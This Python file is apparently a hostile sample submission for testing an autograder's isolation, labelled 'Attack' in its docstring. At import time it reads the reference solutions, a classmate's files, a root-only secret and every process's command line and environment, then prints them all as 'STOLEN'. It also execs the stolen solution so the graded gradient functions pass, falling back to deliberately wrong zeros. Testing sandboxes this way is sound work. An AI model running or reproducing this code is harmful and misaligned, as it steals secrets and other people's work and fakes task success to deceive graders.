"""Attack (reading what it must not): the solutions, a classmate's file, the grader's command line
and environment (the seed?), a root-only file, then print it all so it shows in the report; at load
time, define the graded functions from the solution if it can be read. The fallback answers are wrong."""

import glob
import os


def _steal():
    found = []
    for pattern in ("@SOLUTIONS@/*", "@BATCH@/*", "@SECRET@", "/proc/*/cmdline", "/proc/*/environ"):
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as f:
                    found.append(path + ": " + f.read(3000).decode("utf-8", "replace"))
            except OSError:
                pass
    print("STOLEN", "\n".join(found))
    return found


def _from_solution(name, found):
    for text in found:
        if "def " + name in text and "@SOLUTIONS@" in text:
            ns = {}
            exec(text.split(": ", 1)[1], ns)
            return ns[name]
    return None


def add_backward(a, b, out, dout, _found=_steal()):
    _steal()
    solution = _from_solution("add_backward", _found)
    if solution is not None:
        return solution(a, b, out, dout)
    return 0.0, 0.0


def mul_backward(a, b, out, dout, _found=_steal()):
    solution = _from_solution("mul_backward", _found)
    if solution is not None:
        return solution(a, b, out, dout)
    return 0.0, 0.0
